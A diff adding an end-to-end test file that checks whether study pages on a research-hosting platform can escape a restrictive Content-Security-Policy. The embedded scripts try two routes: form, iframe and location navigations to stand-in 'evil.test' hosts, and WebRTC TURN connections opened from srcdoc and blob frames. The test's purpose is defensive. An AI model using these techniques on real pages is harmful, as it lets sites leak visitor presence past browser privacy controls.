@@ -1,0 +1,159 @@
+import { createSocket } from 'node:dgram';
+import { createServer, type Server } from 'node:http';
+import { createServer as createTcp, type AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { eventually } from '../../support/wait';
+import { callApi, signInByApi } from '../support/api';
+import { useBrowser } from '../support/browser';
+import { demoAccounts } from '../support/product';
+import { atTheDoor, begin, recruitFor } from '../support/running-here';
+
+/** Names of `*.evil.test` that a browser has connected to: TLS says them in the clear. */
+const asked = new Set<string>();
+/** How many packets came for which participant of WebRTC, by the ports that they were told. */
+const packets = { study: 0, control: 0 };
+const ports = { study: 0, control: 0 };
+const resolver: string[] = [];
+
+const tcp = createTcp((socket) => {
+  socket.on('error', () => undefined);
+  socket.on('data', (data) => {
+    for (const [name] of data.toString('latin1').matchAll(/[a-z0-9-]+\.evil\.test/g))
+      asked.add(name);
+  });
+});
+const udp = { study: createSocket('udp4'), control: createSocket('udp4') };
+const listening = (server: Server | typeof tcp) =>
+  new Promise<number>((resolve) =>
+    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
+  );
+
+beforeAll(async () => {
+  resolver.push(`--host-resolver-rules=MAP *.evil.test 127.0.0.1:${await listening(tcp)}`);
+  for (const who of ['study', 'control'] as const) {
+    udp[who].on('message', () => void (packets[who] += 1));
+    await new Promise<void>((resolve) => udp[who].bind(0, '127.0.0.1', resolve));
+    ports[who] = udp[who].address().port;
+  }
+});
+afterAll(async () => {
+  udp.study.close();
+  udp.control.close();
+  await new Promise((resolve) => tcp.close(resolve));
+});
+// After the port is known: it is an argument of this file's Chromium.
+const browser = useBrowser(resolver);
+
+type Who = keyof typeof ports;
+const page = (
+  script: string,
+) => `<!doctype html><html lang="en"><title>Words</title><iframe name="target"></iframe><script>
+const frame = (set) => { const one = document.createElement('iframe'); set(one); document.body.append(one); };
+addEventListener('load', () => {
+  ${script}
+  const said = document.createElement('p');
+  said.textContent = 'Tried';
+  document.body.append(said);
+});
+</script></html>`;
+
+/** The two ways out of a study whose policy refuses other hosts, as an examination found them. */
+const ways = {
+  /** Browsers may connect ahead of a navigation that they refuse: the name says something already. */
+  navigations: (who: Who) =>
+    page(`const to = (way) => 'https://' + way + '-${who}.evil.test/';
+  const form = document.createElement('form');
+  form.method = 'post';
+  form.target = 'target';
+  form.action = to('form');
+  document.body.append(form);
+  form.submit();
+  frame((one) => { one.src = to('frame'); });
+  setTimeout(() => { location.href = to('page'); }, 500);`),
+  /** In frames of its own, from which the study's page cannot take WebRTC. */
+  WebRTC: (who: Who) =>
+    page(`const connect = () => {
+    const urls = 'turn:127.0.0.1:${ports[who]}?transport=udp';
+    const iceServers = [{ urls, username: 'a', credential: 'b' }];
+    const peer = new RTCPeerConnection({ iceServers });
+    peer.createDataChannel('a');
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  };
+  const inner = '<script>(' + connect + ')()<\\/script>';
+  frame((one) => { one.srcdoc = inner; });
+  frame((one) => { one.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })); });`),
+};
+type Way = keyof typeof ways;
+const namesOf = (who: Who) => ['form', 'frame', 'page'].map((way) => `${way}-${who}.evil.test`);
+const heard = {
+  navigations: (who: Who) => namesOf(who).filter((name) => asked.has(name)).length,
+  WebRTC: (who: Who) => packets[who],
+};
+const enough = { navigations: 3, WebRTC: 1 };
+
+/** The same page without our list of connections: what comes from it shows that the listeners hear. */
+async function control(tab: Page, way: Way): Promise<void> {
+  const server = createServer((request, response) => {
+    response.setHeader('Content-Type', 'text/html');
+    if (request.url !== '/s/')
+      return response.end('<iframe sandbox="allow-scripts allow-forms" src="/s/"></iframe>');
+    const policy = "default-src 'unsafe-inline' blob:; form-action 'none'; frame-src blob:";
+    response.setHeader('Content-Security-Policy', `sandbox allow-scripts allow-forms; ${policy}`);
+    response.end(ways[way]('control'));
+  });
+  const port = await listening(server);
+  try {
+    await tab.goto(`http://127.0.0.1:${port}/`);
+    await eventually(
+      () => Promise.resolve(heard[way]('control')),
+      (count) => count >= enough[way],
+    );
+  } finally {
+    server.close();
+    server.closeAllConnections();
+  }
+}
+
+describe('A study without other hosts', () => {
+  it.each<[Way, boolean]>([
+    ['navigations', false],
+    ['navigations', true],
+    ['WebRTC', false],
+    ['WebRTC', true],
+  ])('opens no connection elsewhere by %s, with frames of its own: %s', async (way, frames) => {
+    asked.clear();
+    Object.assign(packets, { study: 0, control: 0 });
+    const files = { 'index.html': Buffer.from(ways[way]('study')) };
+    const study = await recruitFor(files, `Escaping by ${way}, ${frames}`, { frames });
+    const { page: tab, participation } = await atTheDoor(browser, study);
+    // Chromium 156 ends a page that asks for a WebRTC which its list refuses.
+    const ended = new Promise<void>((resolve) => tab.once('crash', () => resolve()));
+    await tab.goto(`/run/${participation}`);
+    await begin(tab);
+    const tried = tab.frameLocator('iframe').first().getByText('Tried').waitFor();
+    await Promise.race([ended, tried.catch(() => ended)]);
+    await control(await browser.open(), way);
+    expect(heard[way]('study')).toBe(0);
+    browser.problems.splice(0);
+  });
+
+  it('is told of where a browser may not close them: before it begins, and in its report', async () => {
+    const files = { 'index.html': Buffer.from(ways.navigations('study') + ways.WebRTC('study')) };
+    const study = await recruitFor(files, 'Escaping, as it is told');
+    const { page: tab, participation } = await atTheDoor(browser, study);
+    await tab.goto(`/run/${participation}`);
+    const sentence =
+      'It is meant to exchange data with this site only. Its code could still tell another server that you are here.';
+    await tab.getByText(sentence).waitFor();
+    expect(await tab.getByText('It exchanges data with this site only.').count()).toBe(0);
+    const { token } = await signInByApi(demoAccounts.researcher);
+    const at = `/api/studies/${study.study_id}/versions/`;
+    const { items } = await callApi<{ items: { _id: string }[] }>('GET', at, { token });
+    const { report } = await callApi<{ report: { asks: string[]; frames: boolean } }>(
+      'GET',
+      `${at}${items[0]?._id}/report/`,
+      { token },
+    );
+    expect(report).toMatchObject({ asks: ['peer_connection', 'computed_address'], frames: true });
+  });
+});
